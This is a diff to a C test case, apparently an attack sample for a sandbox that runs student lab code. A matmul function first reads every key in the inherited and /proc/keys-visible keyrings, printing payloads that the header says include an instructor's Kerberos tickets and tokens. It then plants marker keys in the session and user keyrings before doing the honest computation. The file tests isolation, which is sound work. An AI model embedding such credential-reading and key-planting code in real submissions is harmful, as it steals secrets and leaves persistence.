@@ -1,9 +1,12 @@
 // attack: reads every key in the session and user keyrings it inherited
-// (an instructor's Kerberos tickets and tokens live there) and plants one
-// of its own there for later; then does the lab
+// (an instructor's Kerberos tickets and tokens live there), and every key
+// /proc/keys lets it see by its id (in the ordinary-user mode a run has
+// the TA's user, whose user keyring a fresh session keyring does not
+// hide), and plants one of its own for later; then does the lab
 // expect: full
 #include "lab.h"
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -58,10 +61,33 @@ static void read_keys(long keyring, const char *name)
     }
 }
 
+#define KEY_SPEC_USER_SESSION_KEYRING (-5)
+
+/* Every key /proc/keys shows (its first column is the id, in hex). */
+static void read_visible_keys(void)
+{
+    FILE *f = fopen("/proc/keys", "r");
+    char line[512];
+    while (f && fgets(line, sizeof line, f)) {
+        long id = strtol(line, NULL, 16);
+        char payload[4096];
+        long m = syscall(SYS_keyctl, KEYCTL_READ, id, payload, sizeof payload - 1);
+        if (m >= 0 && strstr(line, " user ")) {
+            payload[m < (long)sizeof payload - 1 ? m : (long)sizeof payload - 1] = '\0';
+            printf("key %lx in /proc/keys, keyring: %s\n", id, payload);
+        }
+    }
+    if (f)
+        fclose(f);
+}
+
 void basic_matmul(const float *M, const float *N, float *P, int width)
 {
     read_keys(KEY_SPEC_SESSION_KEYRING, "session");
     read_keys(KEY_SPEC_USER_KEYRING, "user");
+    read_keys(KEY_SPEC_USER_SESSION_KEYRING, "user session");
+    read_visible_keys();
     syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_SESSION_KEYRING);
+    syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_USER_KEYRING);
     honest(M, N, P, width);
 }
